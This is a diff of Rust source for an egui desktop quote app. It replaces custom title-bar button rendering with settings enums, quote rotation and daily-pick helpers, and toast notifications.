-// =============================================================================
+/// The band active at `minute`: the latest start at or before it, or failing
+/// that the latest start of all (the band running past midnight)
+fn active_theme_band(bands: &[ThemeBand], minute: u32) -> Option<usize> {
+    bands
+        .iter()
+        .enumerate()
+        .max_by_key(|(_, band)| (band.start_minute <= minute, band.start_minute))
+        .map(|(idx, _)| idx)
+}
 
-pub fn draw_icon_button(
-    ui: &mut egui::Ui,
-    icon: &TitleBarIcon,
-    _bg_color: Color32,
-    fg_color: Color32,
-    _hovered: bool,
-) -> egui::Response {
-    let size = Vec2::new(icon.width + 6.0, TITLE_BAR_HEIGHT - 2.0);
-    let (rect, response) = ui.allocate_exact_size(size, Sense::click());
+/// Where band `idx` ends: the next start after its own, around the clock
+fn theme_band_end(bands: &[ThemeBand], idx: usize) -> u32 {
+    let start = bands[idx].start_minute;
+    bands
+        .iter()
+        .map(|band| band.start_minute)
+        .filter(|&other| other != start)
+        .min_by_key(|&other| (other + 24 * 60 - start) % (24 * 60))
+        .unwrap_or(start)
+}
 
-    if response.hovered() {
-        ui.ctx().set_cursor_icon(egui::CursorIcon::PointingHand);
-    }
+/// Which quote to show when the app starts
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum StartupPolicy {
+    #[default]
+    First,
+    Random,
+    LastShown,
+    LeastRecentlyShown,
+}
 
-    let is_hovered = response.hovered();
+impl StartupPolicy {
+    pub const ALL: [StartupPolicy; 4] = [
+        StartupPolicy::First,
+        StartupPolicy::Random,
+        StartupPolicy::LastShown,
+        StartupPolicy::LeastRecentlyShown,
+    ];
 
-    // Outer glow border on hover
-    if is_hovered {
-        let glow_rect = rect.expand(2.0);
-        ui.painter().rect_filled(
-            glow_rect,
-            Rounding::same(8.0),
-            NEON_CYAN.gamma_multiply(0.12),
-        );
-        ui.painter().rect_stroke(
-            glow_rect,
-            Rounding::same(8.0),
-            Stroke::new(1.0, NEON_CYAN.gamma_multiply(0.47)),
-        );
+    pub fn label(self) -> &'static str {
+        match self {
+            StartupPolicy::First => "First quote",
+            StartupPolicy::Random => "Random quote",
+            StartupPolicy::LastShown => "Last shown",
+            StartupPolicy::LeastRecentlyShown => "Least recently shown",
+        }
     }
 
-    // Main button background — glass morphism
-    let bg = if is_hovered {
-        NEON_CYAN.gamma_multiply(0.11)
-    } else {
-        BG_GLASS
-    };
-    ui.painter().rect_filled(rect, Rounding::same(6.0), bg);
+    /// Starting index for a list of `len` quotes; a saved index that no longer
+    /// exists (quotes removed outside the app) falls back to the first quote
+    pub fn start_index(self, saved: usize, len: usize, rng: &mut impl rand::Rng) -> usize {
+        if len == 0 {
+            return 0;
+        }
+        match self {
+            StartupPolicy::First => 0,
+            StartupPolicy::LastShown if saved < len => saved,
+            StartupPolicy::LastShown => 0,
+            // No per-quote display times are tracked, so this behaves like Random
+            StartupPolicy::Random | StartupPolicy::LeastRecentlyShown => rng.gen_range(0..len),
+        }
+    }
+}
 
-    // Subtle top-edge highlight (glass rim)
-    let top_line = [
-        egui::pos2(rect.left() + 4.0, rect.top() + 1.0),
-        egui::pos2(rect.right() - 4.0, rect.top() + 1.0),
+/// How the window reacts when a quote arrives from the CLI or settings.json
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum AttentionCue {
+    None,
+    #[default]
+    BorderPulse,
+    Shake,
+}
+
+impl AttentionCue {
+    pub const ALL: [AttentionCue; 3] = [
+        AttentionCue::None,
+        AttentionCue::BorderPulse,
+        AttentionCue::Shake,
     ];
-    ui.painter().line_segment(
-        top_line,
-        Stroke::new(
-            1.0,
-            if is_hovered {
-                NEON_CYAN.gamma_multiply(0.7)
-            } else {
-                Color32::from_rgba_premultiplied(255, 255, 255, 25)
-            },
-        ),
-    );
 
-    // Icon
-    let icon_color = if is_hovered { NEON_CYAN } else { fg_color };
-    ui.painter().text(
-        rect.center(),
-        egui::Align2::CENTER_CENTER,
-        icon.symbol,
-        FontId::proportional(icon.font_size),
-        icon_color,
-    );
+    pub fn label(self) -> &'static str {
+        match self {
+            AttentionCue::None => "Nothing",
+            AttentionCue::BorderPulse => "Border pulse",
+            AttentionCue::Shake => "Soft shake",
+        }
+    }
+}
 
-    response
+/// When the PREV/NEXT buttons show
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum NavVisibility {
+    #[default]
+    Always,
+    OnHover,
+    Never,
 }
 
-pub fn draw_text_button(
-    ui: &mut egui::Ui,
-    text: &str,
-    bg_color: Color32,
-    width: f32,
-    height: f32,
-) -> egui::Response {
-    let size = Vec2::new(width, height);
-    let (rect, response) = ui.allocate_exact_size(size, Sense::click());
+impl NavVisibility {
+    pub const ALL: [NavVisibility; 3] = [
+        NavVisibility::Always,
+        NavVisibility::OnHover,
+        NavVisibility::Never,
+    ];
 
-    if response.hovered() {
-        ui.ctx().set_cursor_icon(egui::CursorIcon::PointingHand);
+    pub fn label(self) -> &'static str {
+        match self {
+            NavVisibility::Always => "Always",
+            NavVisibility::OnHover => "On hover",
+            NavVisibility::Never => "Never",
+        }
     }
+}
 
-    let is_hovered = response.hovered();
-    let is_clicked = response.is_pointer_button_down_on();
+/// Where the PREV/NEXT buttons sit: in the footer under the text, or as
+/// arrows at the canvas edges
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum NavPosition {
+    #[default]
+    Below,
+    Sides,
+}
 
-    // Glow halo on hover
-    if is_hovered {
-        ui.painter().rect_filled(
-            rect.expand(3.0),
-            Rounding::same(8.0),
-            Color32::from_rgba_unmultiplied(bg_color.r(), bg_color.g(), bg_color.b(), 18),
-        );
+impl NavPosition {
+    pub const ALL: [NavPosition; 2] = [NavPosition::Below, NavPosition::Sides];
+
+    pub fn label(self) -> &'static str {
+        match self {
+            NavPosition::Below => "Below text",
+            NavPosition::Sides => "Sides",
+        }
     }
+}
 
-    // Background with glass sheen
-    let bg = if is_clicked {
-        bg_color.linear_multiply(1.4)
-    } else if is_hovered {
-        bg_color.linear_multiply(1.15)
-    } else {
-        bg_color.linear_multiply(0.75)
-    };
+/// How the live preview of the add form is drawn: exactly like the quote will
+/// display, or framed with a dashed border and a PREVIEW tag
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum PreviewStyle {
+    #[default]
+    AsDisplayed,
+    Marked,
+}
 
-    ui.painter().rect_filled(rect, Rounding::same(6.0), bg);
+impl PreviewStyle {
+    pub const ALL: [PreviewStyle; 2] = [PreviewStyle::AsDisplayed, PreviewStyle::Marked];
 
-    // Top highlight rim
-    ui.painter().line_segment(
-        [
-            egui::pos2(rect.left() + 6.0, rect.top() + 1.0),
-            egui::pos2(rect.right() - 6.0, rect.top() + 1.0),
-        ],
-        Stroke::new(
-            1.0,
-            Color32::from_rgba_unmultiplied(255, 255, 255, if is_hovered { 60 } else { 20 }),
-        ),
-    );
+    pub fn label(self) -> &'static str {
+        match self {
+            PreviewStyle::AsDisplayed => "As displayed",
+            PreviewStyle::Marked => "Marked",
+        }
+    }
+}
 
-    // Border
-    ui.painter().rect_stroke(
-        rect,
-        Rounding::same(6.0),
-        Stroke::new(
-            1.0,
-            if is_hovered {
-                Color32::from_rgba_unmultiplied(bg_color.r(), bg_color.g(), bg_color.b(), 200)
-            } else {
-                Color32::from_rgba_unmultiplied(bg_color.r(), bg_color.g(), bg_color.b(), 80)
-            },
-        ),
-    );
+/// Full window, or the slim always-on-top "ticker" strip
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum DisplayMode {
+    #[default]
+    Normal,
+    Mini,
+}
 
-    // Label with shadow behind for visibility (Year 50k panel)
-    let center = rect.center();
-    let font_id = FontId::proportional(11.5);
-    let shadow = Color32::from_black_alpha(130);
-    let offsets: [Vec2; 8] = [
-        Vec2::new(0.5, 0.0),
-        Vec2::new(-0.5, 0.0),
-        Vec2::new(0.0, 0.5),
-        Vec2::new(0.0, -0.5),
-        Vec2::new(0.5, 0.5),
-        Vec2::new(-0.5, 0.5),
-        Vec2::new(0.5, -0.5),
-        Vec2::new(-0.5, -0.5),
+/// Where the window opens at startup
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum WindowPlacement {
+    #[default]
+    PrimaryMonitor,
+    CursorMonitor,
+    // Last position on screen; the primary monitor if that's gone
+    Remembered,
+}
+
+impl WindowPlacement {
+    pub const ALL: [WindowPlacement; 3] = [
+        WindowPlacement::PrimaryMonitor,
+        WindowPlacement::CursorMonitor,
+        WindowPlacement::Remembered,
     ];
-    for offset in offsets {
-        ui.painter().text(
-            center + offset,
-            egui::Align2::CENTER_CENTER,
-            text,
-            font_id.clone(),
-            shadow,
-        );
+
+    pub fn label(self) -> &'static str {
+        match self {
+            WindowPlacement::PrimaryMonitor => "Primary monitor",
+            WindowPlacement::CursorMonitor => "Monitor with the cursor",
+            WindowPlacement::Remembered => "Where it was last",
+        }
     }
-    ui.painter().text(
-        center,
-        egui::Align2::CENTER_CENTER,
-        text,
-        font_id,
-        Color32::WHITE,
-    );
+}
 
-    response
+/// Fixed window sizes offered from the maximize button's context menu
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum WindowPreset {
+    Widget,
+    Standard,
+    Banner,
+    Square,
 }
 
-/// Draw text with a glow/shadow behind it for better visibility on dark backgrounds.
-/// Uses multiple offset draws in `shadow_or_glow_color` then the main text in `main_color`.
-fn label_with_glow(
-    ui: &mut egui::Ui,
-    text: &str,
-    main_color: Color32,
-    size: f32,
-    shadow_or_glow_color: Color32,
-    align: egui::Align2,
-) -> egui::Response {
-    let font_id = FontId::proportional(size);
-    // Approximate size for allocation (avoids layout API differences across egui versions)
-    let approx_w = (text.len() as f32 * size * 0.55).max(20.0) + 2.0;
-    let approx_h = size * 1.8 + 2.0;
-    let allocate_size = Vec2::new(approx_w, approx_h);
-    let (rect, response) = ui.allocate_exact_size(allocate_size, Sense::hover());
-    let pos = match align {
-        egui::Align2::LEFT_CENTER => rect.left_center() + Vec2::new(0.0, -1.0),
-        egui::Align2::RIGHT_CENTER => rect.right_center() - Vec2::new(0.0, 1.0),
-        _ => rect.center() - Vec2::new(0.0, 1.0),
-    };
-    let offsets: [Vec2; 8] = [
-        Vec2::new(0.5, 0.0),
-        Vec2::new(-0.5, 0.0),
-        Vec2::new(0.0, 0.5),
-        Vec2::new(0.0, -0.5),
-        Vec2::new(0.5, 0.5),
-        Vec2::new(-0.5, 0.5),
-        Vec2::new(0.5, -0.5),
-        Vec2::new(-0.5, -0.5),
+impl WindowPreset {
+    pub const ALL: [WindowPreset; 4] = [
+        WindowPreset::Widget,
+        WindowPreset::Standard,
+        WindowPreset::Banner,
+        WindowPreset::Square,
     ];
-    for offset in offsets {
-        ui.painter().text(
-            pos + offset,
-            align,
-            text,
-            font_id.clone(),
-            shadow_or_glow_color,
-        );
+
+    pub fn label(self) -> &'static str {
+        match self {
+            WindowPreset::Widget => "Widget",
+            WindowPreset::Standard => "Standard",
+            WindowPreset::Banner => "Banner",
+            WindowPreset::Square => "Square",
+        }
+    }
+
+    /// Logical inner size
+    pub fn size(self) -> (u32, u32) {
+        match self {
+            WindowPreset::Widget => (480, 320),
+            WindowPreset::Standard => DEFAULT_WINDOW_SIZE,
+            WindowPreset::Banner => (1600, 300),
+            WindowPreset::Square => (800, 800),
+        }
     }
-    ui.painter().text(pos, align, text, font_id, main_color);
-    response
 }
 
-// =============================================================================
-// TITLE BAR RENDERER
-// =============================================================================
+/// Order auto-rotation walks the quotes in
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum RotationMode {
+    #[default]
+    Sequential,
+    // Weighted by star rating
+    Random,
+    // One quote per calendar day, no auto-rotation (see `DailyQuote`)
+    Daily,
+}
 
-/// Render the complete title bar with all icons
-pub fn render_title_bar(
-    ctx: &Context,
-    state: &mut AppState,
-    window: &Window,
-) -> Vec<TitleBarAction> {
-    if !state.title_bar_state.header_visible {
-        return Vec::new();
+impl RotationMode {
+    pub const ALL: [RotationMode; 3] = [
+        RotationMode::Sequential,
+        RotationMode::Random,
+        RotationMode::Daily,
+    ];
+
+    pub fn label(self) -> &'static str {
+        match self {
+            RotationMode::Sequential => "In order",
+            RotationMode::Random => "Random (by rating)",
+            RotationMode::Daily => "Quote of the day",
+        }
     }
+}
 
-    let mut actions = Vec::new();
+/// What the rotation countdown runs from
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum RotationSync {
+    // A full interval after the last change
+    #[default]
+    Relative,
+    // On wall-clock multiples of the interval (every minute on :00, ...)
+    WallClock,
+}
 
-    let titlebar_bg = Color32::from_black_alpha(26);
+impl RotationSync {
+    pub const ALL: [RotationSync; 2] = [RotationSync::Relative, RotationSync::WallClock];
 
-    TopBottomPanel::top("title_bar")
-        .exact_height(TITLE_BAR_HEIGHT)
-        .frame(Frame::none().fill(titlebar_bg))
-        .show(ctx, |ui| {
-            let rect = ui.max_rect();
+    pub fn label(self) -> &'static str {
+        match self {
+            RotationSync::Relative => "After the last change",
+            RotationSync::WallClock => "On the clock",
+        }
+    }
+}
 
-            // ── HUD Elements ──
-            ui.painter().line_segment(
-                [rect.left_top(), rect.right_top()],
-                Stroke::new(1.5, TITLEBAR_FG.gamma_multiply(0.78)),
-            );
-            ui.painter().line_segment(
-                [
-                    egui::pos2(rect.left(), rect.top() + 3.0),
-                    egui::pos2(rect.right(), rect.top() + 3.0),
-                ],
-                Stroke::new(0.5, TITLEBAR_FG.gamma_multiply(0.15)),
-            );
+/// First wall-clock boundary after `after`: the next local time that is a
+/// whole multiple of the interval (on :00 for 60s, :00/:05/... for 300s).
+/// It stays on `after`'s UTC offset, so a DST change in between moves the
+/// boundary with the clock instead of an hour away from now.
+fn next_clock_boundary(
+    after: chrono::DateTime<chrono::FixedOffset>,
+    interval_secs: u64,
+) -> chrono::DateTime<chrono::FixedOffset> {
+    let interval = interval_secs.max(1) as i64;
+    // Local time read as if it were UTC, so boundaries fall on local minutes
+    let local = after.naive_local().and_utc().timestamp();
+    let next = (local.div_euclid(interval) + 1) * interval - local;
+    let whole = chrono::Timelike::with_nanosecond(&after, 0).unwrap_or(after);
+    whole + chrono::Duration::seconds(next)
+}
 
-            let b = 8.0;
-            let stroke = Stroke::new(1.5, TITLEBAR_FG.gamma_multiply(0.63));
-            ui.painter().line_segment(
-                [
-                    egui::pos2(rect.left(), rect.top()),
-                    egui::pos2(rect.left() + b, rect.top()),
-                ],
-                stroke,
-            );
-            ui.painter().line_segment(
-                [
-                    egui::pos2(rect.left(), rect.top()),
-                    egui::pos2(rect.left(), rect.bottom()),
-                ],
-                stroke,
-            );
-            ui.painter().line_segment(
-                [
-                    egui::pos2(rect.right() - b, rect.top()),
-                    egui::pos2(rect.right(), rect.top()),
-                ],
-                stroke,
-            );
-            ui.painter().line_segment(
-                [
-                    egui::pos2(rect.right(), rect.top()),
-                    egui::pos2(rect.right(), rect.bottom()),
-                ],
-                stroke,
-            );
+/// Today's quote in daily mode: the local day it was chosen for, and its
+/// index (picked by `daily_pick`, or the one the user overrode it with)
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub struct DailyQuote {
+    pub date: chrono::NaiveDate,
+    pub index: usize,
+}
 
-            ui.with_layout(egui::Layout::left_to_right(egui::Align::Center), |ui| {
-                ui.spacing_mut().item_spacing = Vec2::new(4.0, 0.0);
-                ui.add_space(12.0);
+/// The Clear All toast, `left` of its grace period remaining
+fn clear_countdown(count: usize, left: Duration) -> String {
+    format!(
+        "Cleared {} quote(s). Undo clear ({}s); saved when the countdown ends",
+        count,
+        left.as_secs_f32().ceil() as u64
+    )
+}
 
-                ui.label(
-                    RichText::new(icons::APP_ICON.symbol)
-                        .size(15.0)
-                        .color(TITLEBAR_FG),
-                );
-                ui.label(
-                    RichText::new("DAILY  MOTIVATION")
-                        .color(TITLEBAR_FG)
-                        .strong()
-                        .size(12.0),
-                );
+/// A Clear All in its grace period (CLEAR_GRACE): what it took, so Undo can
+/// put it back and saves until then still write the list as it was
+#[derive(Debug)]
+pub struct PendingClear {
+    collection: usize,
+    quotes: Vec<Quote>,
+    current_quote_index: usize,
+    pinned_quote: Option<usize>,
+    history: Vec<usize>,
+    at: Instant,
+}
 
-                ui.add_space(4.0);
-                let (br, _) = ui.allocate_exact_size(Vec2::new(38.0, 14.0), Sense::hover());
-                ui.painter()
-                    .rect_filled(br, Rounding::same(3.0), TITLEBAR_FG.gamma_multiply(0.08));
-                ui.painter().rect_stroke(
-                    br,
-                    Rounding::same(3.0),
-                    Stroke::new(0.5, TITLEBAR_FG.gamma_multiply(0.31)),
-                );
-                ui.painter().text(
-                    br.center(),
-                    egui::Align2::CENTER_CENTER,
-                    "v∞.0",
-                    FontId::proportional(8.5),
-                    TITLEBAR_FG.gamma_multiply(0.7),
-                );
+/// Stable pick for `date` among `len` candidates: the same day always gives
+/// the same answer, across restarts and machines
+fn daily_pick(date: chrono::NaiveDate, len: usize) -> usize {
+    use chrono::Datelike;
+    // splitmix64 finalizer, so neighbouring days land far apart
+    let mut x = (date.num_days_from_ce() as u64).wrapping_add(0x9E37_79B9_7F4A_7C15);
+    x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
+    x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
+    x ^= x >> 31;
+    (x % len.max(1) as u64) as usize
+}
 
-                ui.add_space(8.0);
-                if !state.quotes.is_empty() {
-                    ui.label(
-                        RichText::new(format!(
-                            "[ {}/{} ]",
-                            state.current_quote_index + 1,
-                            state.quotes.len()
-                        ))
-                        .color(NEON_LIME.gamma_multiply(0.7))
-                        .size(10.5),
-                    );
-                }
+/// Pick an index with probability proportional to its weight; None when
+/// every weight is zero
+fn weighted_pick(weights: &[u32], rng: &mut impl rand::Rng) -> Option<usize> {
+    let total: u32 = weights.iter().sum();
+    if total == 0 {
+        return None;
+    }
+    let mut roll = rng.gen_range(0..total);
+    weights.iter().position(|&w| {
+        if roll < w {
+            true
+        } else {
+            roll -= w;
+            false
+        }
+    })
+}
 
-                ui.with_layout(egui::Layout::right_to_left(egui::Align::Center), |ui| {
-                    ui.spacing_mut().item_spacing = Vec2::new(3.0, 0.0);
-                    ui.add_space(6.0);
+/// Which profile drives rotation: chosen by schedule, forced, or none at all
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum ProfileSelection {
+    #[default]
+    Automatic,
+    Disabled,
+    Fixed(usize),
+}
 
-                    // Right-side buttons
-                    let btns = [
-                        (&icons::CLOSE, NEON_ROSE, TitleBarAction::CloseClicked),
-                        (
-                            &icons::MAXIMIZE,
-                            Color32::WHITE,
-                            TitleBarAction::MaximizeClicked,
-                        ),
-                        (
-                            &icons::MINIMIZE,
-                            Color32::WHITE,
-                            TitleBarAction::MinimizeClicked,
-                        ),
-                    ];
+/// Pick the scheduled profile for `now`; overlaps resolve to the narrowest window
+fn scheduled_profile(profiles: &[Profile], now: chrono::NaiveDateTime) -> Option<usize> {
+    use chrono::{Datelike, Timelike};
+    let weekday = now.weekday().num_days_from_monday() as usize;
+    let minute = now.hour() * 60 + now.minute();
+    profiles
+        .iter()
+        .enumerate()
+        .filter(|(_, p)| p.matches(weekday, minute))
+        .min_by_key(|(idx, p)| {
+            (
+                p.window_minutes(),
+                p.days.iter().filter(|d| **d).count(),
+                *idx,
+            )
+        })
+        .map(|(idx, _)| idx)
+}
 
-                    for (icon, color, action) in btns {
-                        if draw_icon_button(ui, icon, Color32::TRANSPARENT, color, false).clicked()
-                        {
-                            actions.push(action);
-                        }
-                    }
+/// Output sizes offered by "Save as Image"
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum ImageExportPreset {
+    #[default]
+    Square,
+    Widescreen,
+}
 
-                    if draw_icon_button(
-                        ui,
-                        &icons::HIDE_HEADER,
-                        Color32::TRANSPARENT,
-                        Color32::WHITE,
-                        false,
-                    )
-                    .clicked()
-                    {
-                        actions.push(TitleBarAction::HideHeader);
-                    }
+impl ImageExportPreset {
+    pub const ALL: [ImageExportPreset; 2] =
+        [ImageExportPreset::Square, ImageExportPreset::Widescreen];
 
-                    ui.add_space(8.0);
-                    // ANIMATION SECTION (just right of TOGGLE_BG in code = physically right)
-                    let anim_btns = [
-                        (&icons::ANIM_FLY, TitleBarAction::PlayFly, AppAnimation::Fly),
-                        (
-                            &icons::ANIM_DISSOLVE,
-                            TitleBarAction::PlayDissolve,
-                            AppAnimation::Dissolve,
-                        ),
-                        (
-                            &icons::ANIM_ROTATE,
-                            TitleBarAction::PlayRotate,
-                            AppAnimation::Rotate,
-                        ),
-                        (
-                            &icons::ANIM_DANCE,
-                            TitleBarAction::PlayDance,
-                            AppAnimation::Dance,
-                        ),
-                        (
-                            &icons::ANIM_SHAKE,
-                            TitleBarAction::PlayShake,
-                            AppAnimation::Shake,
-                        ),
-                        (
-                            &icons::ANIM_BOUNCE,
-                            TitleBarAction::PlayBounce,
-                            AppAnimation::Bounce,
-                        ),
-                    ];
+    pub fn size(self) -> (u32, u32) {
+        match self {
+            ImageExportPreset::Square => (1080, 1080),
+            ImageExportPreset::Widescreen => (1920, 1080),
+        }
+    }
 
-                    for (icon, action, anim_type) in anim_btns {
-                        let active = state.active_animation == anim_type;
-                        let color = if active { NEON_LIME } else { Color32::WHITE };
-                        if draw_icon_button(ui, icon, Color32::TRANSPARENT, color, active).clicked()
-                        {
-                            actions.push(action);
-                        }
-                    }
+    pub fn label(self) -> &'static str {
+        match self {
+            ImageExportPreset::Square => "1080 × 1080 (square)",
+            ImageExportPreset::Widescreen => "1920 × 1080 (widescreen)",
+        }
+    }
+}
 
-                    ui.add_space(8.0);
-                    // TOGGLE_BG (placed left attached to other buttons)
-                    let bg_color = if state.is_3d_bg_active {
-                        NEON_CYAN
-                    } else {
-                        Color32::from_rgba_premultiplied(255, 255, 255, 150)
-                    };
-                    if draw_icon_button(
-                        ui,
-                        &icons::TOGGLE_BG,
-                        Color32::TRANSPARENT,
-                        bg_color,
-                        false,
-                    )
-                    .clicked()
-                    {
-                        actions.push(TitleBarAction::ToggleBg);
-                    }
+// =============================================================================
+// TOAST NOTIFICATIONS
+// =============================================================================
 
-                    ui.add_space(8.0);
-                    if draw_icon_button(
-                        ui,
-                        &icons::ZOOM_IN,
-                        Color32::TRANSPARENT,
-                        Color32::WHITE,
-                        false,
-                    )
-                    .clicked()
-                    {
-                        actions.push(TitleBarAction::ZoomIn);
-                    }
-                    if draw_icon_button(
-                        ui,
-                        &icons::ZOOM_OUT,
-                        Color32::TRANSPARENT,
-                        Color32::WHITE,
-                        false,
-                    )
-                    .clicked()
-                    {
-                        actions.push(TitleBarAction::ZoomOut);
-                    }
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ToastKind {
+    Info,
+    Success,
+    Error,
+}
 
-                    ui.add_space(8.0);
-                    if draw_icon_button(
-                        ui,
-                        &icons::EXPORT,
-                        Color32::TRANSPARENT,
-                        Color32::WHITE,
-                        false,
-                    )
-                    .clicked()
-                    {
-                        actions.push(TitleBarAction::ExportClicked);
-                    }
-                    if draw_icon_button(
-                        ui,
-                        &icons::THEME,
-                        Color32::TRANSPARENT,
-                        Color32::WHITE,
-                        false,
-                    )
-                    .clicked()
-                    {
-                        actions.push(TitleBarAction::ThemeClicked);
-                    }
+impl ToastKind {
+    fn color(self) -> Color32 {
+        match self {
+            ToastKind::Info => NEON_CYAN,
+            ToastKind::Success => NEON_LIME,
+            ToastKind::Error => NEON_ROSE,
+        }
+    }
+}
 
-                    let drag_avail = ui.available_width();
-                    if drag_avail > 0.0 {
-                        let (_, resp) = ui.allocate_exact_size(
-                            Vec2::new(drag_avail, TITLE_BAR_HEIGHT),
-                            Sense::drag(),
-                        );
-                        if resp.drag_started() {
-                            let _ = window.drag_window();
-                        }
-                    }
-                });
-            });
-            actions
-        })
-        .inner
+/// Buttons a toast can offer; handled by `AppState::handle_toast_action`
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ToastAction {
+    KeepMine,
+    LoadFile,
+    AddClipboard,
+    InboxClipboard,
+    IgnoreClipboard,
+    OpenRelease,
+    SkipVersion,
+    DismissUpdate,
+    OverrideDaily,
+    KeepDaily,
+    UndoTags,
+    UndoSubTexts,
+    OpenCrashFolder,
+    UndoClear,
+    CommitClear,
 }
 
-/// Render floating button group (Toggle Panel, Show Header)
-fn render_floating_buttons(ctx: &Context, state: &mut AppState) -> Vec<TitleBarAction> {
-    let mut actions = Vec::new();
+impl ToastAction {
+    fn label(self) -> &'static str {
+        match self {
+            ToastAction::KeepMine => "Keep mine",
+            ToastAction::LoadFile => "Load file",
+            ToastAction::AddClipboard => "Add",
+            ToastAction::InboxClipboard => "Later",
+            ToastAction::IgnoreClipboard => "Ignore",
+            ToastAction::OpenRelease => "Release page",
+            ToastAction::SkipVersion => "Skip this version",
+            ToastAction::DismissUpdate => "Not now",
+            ToastAction::OverrideDaily => "Change it",
+            ToastAction::KeepDaily => "Keep",
+            ToastAction::UndoTags | ToastAction::UndoSubTexts => "Undo",
+            ToastAction::OpenCrashFolder => "Open folder",
+            ToastAction::UndoClear => "Undo clear",
+            ToastAction::CommitClear => "Commit now",
+        }
+    }
+}
 
-    // Auto-hide logic
-    let elapsed = state.last_interaction.elapsed().as_secs_f32();
-    let opacity = if elapsed > 5.0 {
-        1.0 - ((elapsed - 5.0) / 0.5).min(1.0)
-    } else {
-        1.0
-    };
-    if opacity <= 0.0 {
-        return actions;
+/// A short-lived message shown in the bottom-right corner
+#[derive(Debug, Clone)]
+pub struct Toast {
+    pub message: String,
+    pub kind: ToastKind,
+    pub created: Instant,
+    pub duration: Duration,
+    pub actions: Vec<ToastAction>,
+}
+
+impl Toast {
+    pub fn new(kind: ToastKind, message: impl Into<String>) -> Self {
+        Self {
+            message: message.into(),
+            kind,
+            created: Instant::now(),
+            duration: Duration::from_secs(4),
+            actions: Vec::new(),
+        }
     }
 
-    // Fixed position: Just below title bar, right-aligned
-    let screen_rect = ctx.screen_rect();
-    let pos = egui::pos2(screen_rect.right() - 3.0, TITLE_BAR_HEIGHT + 2.0);
+    /// A toast with buttons stays up long enough to be answered
+    pub fn with_actions(mut self, actions: Vec<ToastAction>) -> Self {
+        self.actions = actions;
+        self.duration = Duration::from_secs(30);
+        self
+    }
 
-    egui::Area::new(egui::Id::new("floating_buttons"))
-        .fixed_pos(pos)
-        .pivot(egui::Align2::RIGHT_TOP)
-        .order(egui::Order::Foreground)
-        .interactable(opacity > 0.0) // Fix: interactable until fully invisible
-        .show(ctx, |ui| {
-            if opacity < 1.0 && opacity > 0.0 {
-                ui.ctx().request_repaint();
-            }
-            ui.vertical(|ui| {
-                ui.spacing_mut().item_spacing = Vec2::new(0.0, 8.0);
-
-                // 1. Toggle Panel Button
-                // Background color changes based on panel visibility
-                let (bg, fg) = if state.title_bar_state.control_panel_visible {
-                    (BTN_ACTIVE_BG, BTN_ACTIVE_FG)
-                } else {
-                    (BTN_NORMAL_BG, Color32::WHITE)
-                };
-
-                let bg = bg.linear_multiply(opacity);
-                let fg = fg.linear_multiply(opacity);
-
-                let (btn_icon, btn_tooltip) = if state.title_bar_state.control_panel_visible {
-                    (&icons::TOGGLE_PANEL, "Hide Panel") // User asked for Sandwich when Visible
-                } else {
-                    (&icons::CLOSE, "Show Panel") // User asked for X when Hidden
-                                                  // Wait, user asked: visible -> ☰, hidden -> ✕.
-                                                  // I will follow specific instruction despite it feeling backwards.
-                                                  // "control_panel_visible == true -> icon = '☰'"
-                                                  // "control_panel_visible == false -> icon = '✕'"
-                };
+    fn expired(&self) -> bool {
+        self.created.elapsed() >= self.duration
+    }
+}
 
-                // Override user instruction if it implies X opens the menu?
-                // "The ☰ icon changes to ✕ when control panel is hidden".
-                // If I click X (when hidden), it opens.
-                // If I click ☰ (when visible), it closes.
-                // Use icons::CLOSE for X.
+// =============================================================================
+// TITLE BAR ICON DEFINITIONS (From your original code)
+// =============================================================================
 
-                let response = draw_icon_button(
-                    ui,
-                    btn_icon,
-                    bg,
-                    fg,
-                    state.title_bar_state.toggle_panel_btn_hovered,
-                );
-                state.title_bar_state.toggle_panel_btn_hovered = response.hovered();
+/// Title bar icon definitions - each icon has a symbol and tooltip
+#[derive(Debug, Clone)]
+pub struct TitleBarIcon {
+    pub symbol: &'static str,
+    pub tooltip: &'static str,
+    pub width: f32,
+    pub font_size: f32,
+}
 
-                if response.clicked() {
-                    actions.push(TitleBarAction::TogglePanel);
-                }
-                if opacity > 0.8 {
-                    response.on_hover_text_at_pointer(btn_tooltip);
-                }
+impl TitleBarIcon {
+    pub const fn new(
+        symbol: &'static str,
+        tooltip: &'static str,
+        width: f32,
+        font_size: f32,
+    ) -> Self {
+        Self {
+            symbol,
+            tooltip,
+            width,
+            font_size,
+        }
+    }
+}
 
-                // 2. Show Header Button (only if header is hidden)
-                if !state.title_bar_state.header_visible {
-                    let bg = BTN_NORMAL_BG.linear_multiply(opacity);
-                    let fg = Color32::WHITE.linear_multiply(opacity);
+pub mod icons {
+    use super::TitleBarIcon;
 
-                    let response = draw_icon_button(ui, &icons::SHOW_HEADER, bg, fg, false);
+    pub const APP_ICON: TitleBarIcon =
+        TitleBarIcon::new("\u{f135}", "Daily Motivation", 20.0, 24.0);
+    pub const THEME: TitleBarIcon = TitleBarIcon::new("\u{eb5c}", "Change Theme", 20.0, 12.0);
+    pub const PRESENTATION: TitleBarIcon =
+        TitleBarIcon::new("\u{f108}", "Presentation Mode (Esc to exit)", 20.0, 13.2);
